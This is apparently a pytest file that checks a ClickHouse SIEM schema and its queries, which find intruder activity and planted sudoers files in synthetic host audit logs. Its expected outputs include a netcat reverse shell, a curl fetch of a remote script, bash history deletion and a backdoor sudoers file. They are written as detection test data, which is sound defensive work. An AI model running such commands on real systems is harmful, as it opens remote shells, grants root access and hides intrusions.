"""packaging/siem/clickhouse: the table takes what `host-sensor ship` sends, and the queries give what is looked for."""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest

from tests.ship.far_ends import Collector, Ship
from tests.siem.written import FORMS, INTRUDERS, PLANTED, SIEM, content, with_guids, written
from tests.support.chdb import load

pytest.importorskip("urllib3", reason="needs urllib3 (python3-urllib3)")

if TYPE_CHECKING:
    from chdb.session import Session

FOLDER = "/tmp/intruders-pkn172lp"
DEEDS = "1795843971.614:812933"


class Table:
    """The table and the queries on it; a process has one engine, so each has a database of its own."""

    def __init__(self, session: Session, name: str) -> None:
        self._session = session
        session.query(f"CREATE DATABASE {name}")
        session.query(f"USE {name}")
        for file in ("tables", "queries"):
            text = (SIEM / "clickhouse" / f"{file}.sql").read_text()
            code = "\n".join(line for line in text.splitlines() if not line.startswith("--"))
            for statement in filter(str.strip, code.split(";")):
                session.query(statement)

    def fill(self, path: Path, folder: Path) -> None:
        """Insert what ship makes of a log, twice: as after an acknowledgement that was lost."""
        server, rows = Collector(), folder / "rows.jsonl"
        with Ship(folder, path, kind="clickhouse", to=server.url, host="web01") as ship:
            assert ship.run("--once").returncode == 0
        server.stop()
        rows.write_bytes(b"".join(body for _, _, body in server.requests))
        for _ in range(2):
            self._session.query(f"INSERT INTO events FROM INFILE '{rows}' FORMAT JSONEachRow")

    def ask(self, query: str) -> list[Any]:
        return [json.loads(line) for line in str(self._session.query(query, "JSONCompactEachRow")).splitlines()]


@pytest.fixture(scope="module")
def session() -> Iterator[Session]:
    with load("chdb.session").Session() as session:
        yield session


def table(session: Session, name: str, path: Path, folder: Path) -> Table:
    found = Table(session, name)
    found.fill(path, folder)
    return found


def test_the_planted_file_is_found(session: Session, tmp_path: Path) -> None:
    log = table(session, "planted", written(content(PLANTED), FORMS["ecs"], tmp_path), tmp_path)
    found = log.ask("SELECT login_user, user, program, outcome, files FROM touched(pattern = '/etc/sudoers.d/b%k%')")
    assert found == [["1000", "0", "tee", "success", ["/etc/sudoers.d/bäckdöör"]]]
    assert log.ask("SELECT * FROM touched(pattern = '/etc/shadow')") == []


def test_what_intruders_did(session: Session, tmp_path: Path) -> None:
    path = written(content(INTRUDERS), FORMS["ecs"], tmp_path)
    log = table(session, "intruders", path, tmp_path)
    assert log.ask("SELECT count() FROM events FINAL") == [[len(path.read_bytes().splitlines())]]
    tree = log.ask(f"SELECT depth, process, command_line FROM process_tree(root = '{DEEDS}')")
    assert tree[0] == [0, DEEDS, f"/bin/bash {FOLDER}/deeds {FOLDER}"]
    assert [row[2] for row in tree[1:3]] == [
        "  bash -c nc -e /bin/sh 127.0.0.1 4444; :",
        "    nc -e /bin/sh 127.0.0.1 4444",
    ]
    assert len(tree) == 32
    did = {tuple(row) for row in log.ask("SELECT program, action, what FROM did(session = '1563')")}
    assert {
        ("rm", "deleted", f"{FOLDER}/.bash_history"),
        ("bash", "connected-to", "127.0.0.1:4444"),
        ("curl", "executed", "curl -s http://127.0.0.1/x.sh"),
    } <= did
    assert log.ask("SELECT session, login_user, events, programs FROM sessions") == [["1563", "60321", 42, 32]]


def test_a_process_with_a_guid_is_one_row_whatever_programs_it_has_been(session: Session, tmp_path: Path) -> None:
    log = table(session, "guids", with_guids(FORMS["ecs"], tmp_path), tmp_path)
    ((shell, sudo),) = log.ask("SELECT maxIf(process, pid = 31), maxIf(process, pid = 32) FROM processes")
    assert len(shell) == len(sudo) == 36
    assert log.ask(f"SELECT depth, process, command_line FROM process_tree(root = '{shell}')") == [
        [0, shell, "-bash"],
        [1, sudo, "  tee /etc/sudoers.d/job"],
    ]
    assert log.ask(f"SELECT command_lines, users FROM processes WHERE process = '{sudo}'") == [
        [["sudo tee /etc/sudoers.d/job", "tee /etc/sudoers.d/job"], ["0", "1000"]]
    ]
    assert log.ask("SELECT session, source, programs FROM sessions") == [["3", "192.0.2.7", 3]]
